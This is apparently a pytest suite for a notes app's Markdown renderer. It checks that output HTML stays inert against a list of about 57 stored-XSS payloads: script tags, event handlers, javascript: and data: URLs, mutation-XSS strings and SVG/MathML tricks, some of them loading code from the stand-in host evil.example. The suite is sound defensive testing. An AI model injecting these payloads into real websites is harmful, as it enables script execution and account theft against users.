"""Notes as HTML: what Markdown becomes, and that nothing in it ever runs."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from notes.web import markdown
from notes.web.markdown import rendered

# Stored XSS: raw HTML, dangerous URLs, broken markup, mutation, entities, SVG, MathML, styles.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '[x](https://e.example/" onmouseover="alert(1))',
    '[x](https://e.example "t\\" onmouseover=alert(1) x=\\"")',
    "<javascript:alert(1)>",
    "<https://e.example/'onclick=alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://e.example/p.png)",
    '![" onerror="alert(1)](https://e.example/p.png)',
    '![<img src=x onerror=alert(1)>](<https://e.example/"onerror=alert(1)>)',
    "[![x](https://e.example/p.png)](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
    "    <script>alert(1)</script>",
    "| a | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{% load x %}{{ request }}<script>{{ x|safe }}</script>",
    "\u202e<script>alert(1)</script>",
    "<\x00script>alert(1)</\x00script>",
]
ALLOWED = markdown._TAGS


class _Reader(HTMLParser):
    """Collects the tags, attributes and text of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))

    def handle_data(self, data):
        self.text += data


def read(html: str) -> _Reader:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader


def assert_inert(html: str) -> None:
    for tag, attributes in read(html).tags:
        assert tag in ALLOWED, tag
        assert set(attributes) <= {"href", "title", "rel", "start"}, attributes
        scheme = urlsplit((attributes.get("href") or "").strip()).scheme
        assert scheme in ("", "http", "https", "mailto"), attributes


class TestRendered:
    @pytest.mark.parametrize("attack", ATTACKS)
    def test_an_attack_is_inert(self, attack):
        html = rendered(attack)

        assert html is not None
        assert_inert(html)

    @given(st.text(alphabet="<>\"'=/`[]()!&;#: \n\tjavscriptonedl*_~|-\\", max_size=200))
    def test_so_is_any_text(self, text):
        html = rendered(text)

        assert html is not None
        assert_inert(html)

    @pytest.mark.parametrize(
        ("text", "html"),
        [
            ("# One\n\n###### Six", "<h2>One</h2>\n<h6>Six</h6>\n"),
            ("### Three\n\n#### Four", "<h2>Three</h2>\n<h3>Four</h3>\n"),
            (
                "*a* **b** ~~c~~ `d`",
                "<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code></p>\n",
            ),
            ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
            ("```python\nx < 1\n```", "<pre><code>x &lt; 1\n</code></pre>\n"),
            ("<b>x</b>", "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"),
            ("", ""),
        ],
    )
    def test_becomes_html(self, text, html):
        assert rendered(text) == html

    def test_a_link_says_nothing_of_where_it_comes_from(self):
        (_, (tag, attributes)) = read(rendered("[x](https://e.example/a?b=c&d)")).tags

        assert tag == "a"
        assert attributes == {
            "href": "https://e.example/a?b=c&d",
            "rel": "noopener noreferrer nofollow",
        }

    def test_an_image_is_a_link_by_its_description(self):
        page = read(rendered("![A *cat*](https://e.example/cat.png)"))

        assert [tag for tag, _ in page.tags] == ["p", "a"]
        assert page.text.strip() == "Image: A cat"

    def test_too_much_work_is_not_done(self, monkeypatch):
        monkeypatch.setattr("notes.headings._CALLS_MAX", 1_000)

        assert rendered("a *b* " * 1_000) is None
        assert rendered("short") == "<p>short</p>\n"
